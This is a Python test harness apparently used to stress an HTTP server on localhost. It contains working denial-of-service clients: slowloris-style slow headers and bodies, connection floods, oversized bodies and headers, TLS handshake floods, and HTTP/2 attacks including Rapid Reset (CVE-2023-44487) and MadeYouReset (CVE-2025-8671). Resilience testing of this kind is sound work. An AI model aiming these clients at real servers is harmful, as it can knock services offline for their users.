"""Clients that an HTTP server has to survive: `attacks.py NAME PORT SECONDS [SOURCE]`, a process of its own so that it
does not slow the one that measures. Prints one JSON object of what it did."""
import contextlib
import itertools
import json
import selectors
import socket
import ssl
import struct
import sys
import time

import h2.config
import h2.connection
import h2.errors
import h2.events
import h2.exceptions
import h2.settings

HEADERS = [(":method", "GET"), (":path", "/healthz/ready"), (":scheme", "http"), (":authority", "agent")]
DRIP_S = 0.3


class Attack:
    """port, until when, and from where (None: as the kernel likes)."""

    def __init__(self, port, seconds, source):
        self.port, self.end, self.source = port, time.monotonic() + seconds, source
        self.counts = {"connected": 0, "ended": 0, "sent": 0}

    def going_on(self):
        return time.monotonic() < self.end

    def count(self, name, by=1):
        self.counts[name] = self.counts.get(name, 0) + by

    def connect(self, source=None, **options):
        source = source or self.source
        client = socket.socket()
        for option, value in options.items():
            client.setsockopt(socket.SOL_SOCKET, getattr(socket, option), value)
        if source:
            client.bind((source, 0))
        client.settimeout(5)
        client.connect(("127.0.0.1", self.port))
        self.count("connected")
        return client

    def hold(self, sources, drip=None):
        """One connection for each of sources, opened again when it ends; each sends what drip(turn) says now and then.
        """
        clients = {}
        with selectors.DefaultSelector() as ready:
            turn, due = 0, 0.0
            while self.going_on():
                for number, source in enumerate(sources):
                    if number not in clients and self.going_on():
                        self._open(clients, ready, number, source, drip)
                for key, _ in ready.select(0.05):
                    self._read(clients, ready, key)
                if drip and time.monotonic() >= due:
                    turn, due = turn + 1, time.monotonic() + DRIP_S
                    for number in list(clients):
                        self._send(clients, ready, number, drip(turn))
        for client in clients.values():
            client.close()

    def _open(self, clients, ready, number, source, drip):
        with contextlib.suppress(OSError):
            clients[number] = self.connect(source)
            clients[number].setblocking(False)
            ready.register(clients[number], selectors.EVENT_READ, number)
            if drip:
                self._send(clients, ready, number, drip(0))

    def _read(self, clients, ready, key):
        try:
            gone = not key.fileobj.recv(65536)
        except BlockingIOError:
            return
        except OSError:
            gone = True
        if gone:
            self._forget(clients, ready, key.data)

    def _forget(self, clients, ready, number):
        client = clients.pop(number)
        ready.unregister(client)
        client.close()
        self.count("ended")

    def _send(self, clients, ready, number, data):
        try:
            clients[number].send(data)
            self.count("sent")
        except BlockingIOError:
            pass
        except OSError:
            self._forget(clients, ready, number)


def idle_one(attack):
    """1,000 connections from one address that ask nothing."""
    attack.hold([attack.source] * 1000)


def idle_fifty(attack):
    """The same from fifty addresses."""
    attack.hold([f"127.0.1.{1 + n % 50}" for n in range(1000)])


def idle(attack):
    attack.hold([attack.source] * 5)


def slow_headers(attack):
    attack.hold([attack.source] * 5, lambda turn: b"x-slow: 1\r\n" if turn else b"GET / HTTP/1.1\r\nhost: agent\r\n")


def slow_bodies(attack):
    attack.hold([attack.source] * 5, lambda turn: b"x" if turn else
                b"POST /healthz/ready HTTP/1.1\r\nhost: agent\r\ncontent-length: 60000\r\n\r\n")


def pings(attack):
    """HTTP/2 connections that never ask and never are silent."""
    preface = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + struct.pack(">HBBBL", 0, 0, 4, 0, 0)
    ping = struct.pack(">HBBBL", 0, 8, 6, 0, 0) + b"12345678"
    attack.hold([attack.source] * 5, lambda turn: ping if turn else preface)


def slow_readers(attack):
    """Ask for more than fits into the buffers and take nothing; who is cut is followed by another."""
    requests = b"GET /metrics HTTP/1.1\r\nhost: agent\r\n\r\n" * 500
    clients = [attack.connect(SO_RCVBUF=4096) for _ in range(5)]
    unsent = [requests] * len(clients)
    for client in clients:
        client.setblocking(False)
    while attack.going_on():
        for number, client in enumerate(clients):
            try:
                sent = client.send(unsent[number])
            except BlockingIOError:
                continue
            except OSError:
                attack.count("ended")
                client.close()
                clients[number], unsent[number] = attack.connect(SO_RCVBUF=4096), requests
                clients[number].setblocking(False)
            else:
                attack.count("sent", sent)
                unsent[number] = unsent[number][sent:] or requests
        time.sleep(0.1)
    for client in clients:
        client.close()


def handshakes(attack):
    """TLS clients that stop after half a hello."""
    hello = b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + b"r" * 32
    attack.hold([attack.source] * 5, lambda turn: b"" if turn else hello)


def big_bodies(attack):
    """10 MB to a path that takes none, with and without a length, again and again."""
    begin = b"POST /healthz/ready HTTP/1.1\r\nhost: agent\r\n"
    kinds = ((b"content-length: 10000000\r\n\r\n", b"x" * 10000),
             (b"transfer-encoding: chunked\r\n\r\n", b"2710\r\n" + b"x" * 10000 + b"\r\n"))
    for head, block in itertools.cycle(kinds):
        if not attack.going_on():
            return
        with attack.connect() as client:
            status = b""
            with contextlib.suppress(OSError):
                client.sendall(begin + head)
                for _ in range(1000):
                    client.sendall(block)
            with contextlib.suppress(OSError):
                status = client.recv(12)
            attack.count(status.decode() or "no answer")


def _many_hold(attack, opened):
    """60 connections from as many addresses that hold what opened(connection) sent them; who is cut is followed by
    another."""
    held = {}
    while attack.going_on():
        for number in range(60):
            if number not in held and attack.going_on():
                with contextlib.suppress(OSError, h2.exceptions.ProtocolError):
                    held[number] = opened(f"127.0.1.{1 + number}")
        for number, client in list(held.items()):
            with contextlib.suppress(BlockingIOError):
                try:
                    gone = not client.recv(65536)
                except ConnectionError:
                    gone = True
                if gone:
                    held.pop(number).close()
                    attack.count("ended")
        time.sleep(0.01)
    for client in held.values():
        client.close()


def long_heads(attack):
    """A header line of 390 KB that does not end."""
    def opened(source):
        client = attack.connect(source)
        client.sendall(b"GET / HTTP/1.1\r\nhost: agent\r\nx-long: " + b"a" * 390000)
        client.setblocking(False)
        return client
    _many_hold(attack, opened)


def held_bodies(attack):
    """100 bodies on one connection, all but their last bytes."""
    post = [(":method", "POST"), *HEADERS[1:], ("content-length", "65000")]

    def opened(source):
        connection = Http2(attack, source)
        for stream in range(1, 200, 2):
            connection.h2.send_headers(stream, post)
            left = 60000
            while left > 0:
                size = min(left, connection.h2.local_flow_control_window(stream), connection.h2.max_outbound_frame_size)
                connection.h2.send_data(stream, b"x" * size)
                left -= size
                if size == 0:
                    connection.flush()
                    if not connection.read(1):
                        raise ConnectionResetError
            connection.flush()
            attack.count("sent")
        connection.socket.setblocking(False)
        return connection.socket
    _many_hold(attack, opened)


def _untaken(attack, path):
    """100 long answers on one connection, none of which may be sent."""
    config = h2.config.H2Configuration(header_encoding="utf-8")

    def opened(source):
        client = attack.connect(source)
        connection = h2.connection.H2Connection(config)
        connection.local_settings[h2.settings.SettingCodes.INITIAL_WINDOW_SIZE] = 0
        connection.initiate_connection()
        for stream in range(1, 200, 2):
            connection.send_headers(stream, [HEADERS[0], (":path", path), *HEADERS[2:]], end_stream=True)
        attack.count("sent", 100)
        client.sendall(connection.data_to_send())
        client.setblocking(False)
        return client
    _many_hold(attack, opened)


def untaken_metrics(attack):
    _untaken(attack, "/metrics")


def untaken_statuses(attack):
    _untaken(attack, "/api/v1/status")


def pipelining(attack):
    """Requests in one write as long as they are answered, all answers read."""
    request = b"GET /healthz/ready HTTP/1.1\r\nhost: agent\r\n\r\n" * 1000
    while attack.going_on():
        with attack.connect() as client:
            client.sendall(request)
            answers, tail = 0, b""
            while answers < 1000:
                data = client.recv(65536)
                if not data:
                    break
                answers += (tail + data).count(b"HTTP/1.1 200 OK")
                tail = data[-14:]
            attack.count("answered", answers)


class Http2:
    """A connection by prior knowledge."""

    def __init__(self, attack, source=None):
        self.attack, self.socket, self.answers = attack, attack.connect(source), 0
        config = h2.config.H2Configuration(validate_inbound_headers=False, header_encoding="utf-8")
        self.h2 = h2.connection.H2Connection(config)
        self.h2.initiate_connection()
        self.flush()

    def flush(self):
        self.socket.sendall(self.h2.data_to_send())

    def read(self, timeout):
        """False: it has ended."""
        self.socket.settimeout(timeout)
        try:
            data = self.socket.recv(65536)
        except (BlockingIOError, TimeoutError):
            return True
        with contextlib.suppress(h2.exceptions.ProtocolError):
            for event in self.h2.receive_data(data):
                if isinstance(event, h2.events.ResponseReceived):
                    self.answers += 1
                    self.attack.count(f"status {dict(event.headers)[':status']}")
                if isinstance(event, h2.events.StreamReset):
                    self.attack.count("reset_by_server")
                if isinstance(event, h2.events.ConnectionTerminated):
                    return False
        return bool(data)


def _flood(attack, request):
    """request(connection, stream) until the server ends the connection; then the next one."""
    while attack.going_on():
        try:
            connection = Http2(attack)
            with connection.socket:
                stream = 1
                while attack.going_on():
                    for _ in range(25):
                        request(connection, stream)
                        attack.count("sent")
                        stream += 2
                    connection.flush()
                    if not connection.read(0.0):
                        break
        except (OSError, h2.exceptions.ProtocolError):  # the latter: it knows of too many open streams
            pass
        attack.count("ended")


def rapid_reset(attack):
    """CVE-2023-44487: ask and take back at once."""
    def request(connection, stream):
        connection.h2.send_headers(stream, HEADERS, end_stream=True)
        connection.h2.reset_stream(stream, h2.errors.ErrorCodes.CANCEL)
    _flood(attack, request)


def made_you_reset(attack):
    """CVE-2025-8671: ask, then err on the stream, so that the server resets it."""
    bad_update = struct.pack(">HBBB", 0, 4, 8, 0)  # WINDOW_UPDATE by 2^31 - 1 on top of what there is

    def request(connection, stream):
        connection.h2.send_headers(stream, HEADERS, end_stream=True)
        connection.flush()
        connection.socket.sendall(bad_update + struct.pack(">LL", stream, 2**31 - 1))
    _flood(attack, request)


def unknown_frames(attack):
    """Frames of a type that nobody knows."""
    with contextlib.suppress(OSError):
        connection = Http2(attack)
        frame = struct.pack(">HBBBL", 0, 4, 0x42, 0, 0) + b"abcd"
        while attack.going_on():
            connection.socket.sendall(frame * 100)
            attack.count("sent", 100)
            connection.read(0.01)
            time.sleep(0.05)


def many_streams(attack):
    """More requests at once than a connection may have, with those that it drops: too few to be ended for that."""
    while attack.going_on():
        with contextlib.suppress(OSError):
            connection = Http2(attack)
            with connection.socket:
                for number in range(145):
                    connection.h2.send_headers(2 * number + 1, HEADERS, end_stream=True)
                    if number < 45:
                        connection.h2.reset_stream(2 * number + 1, h2.errors.ErrorCodes.CANCEL)
                attack.count("sent", 145)
                connection.flush()
                while connection.answers < 100 and attack.going_on() and connection.read(0.1):
                    pass


def tls_floods(attack):
    """Whole handshakes, one after the other."""
    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    while attack.going_on():
        with contextlib.suppress(OSError), attack.connect() as client, context.wrap_socket(client):
            attack.count("sent")


def main():
    name, port, seconds, *source = sys.argv[1:]
    attack = Attack(int(port), float(seconds), source[0] if source else None)
    globals()[name](attack)
    print(json.dumps(attack.counts))


if __name__ == "__main__":
    main()
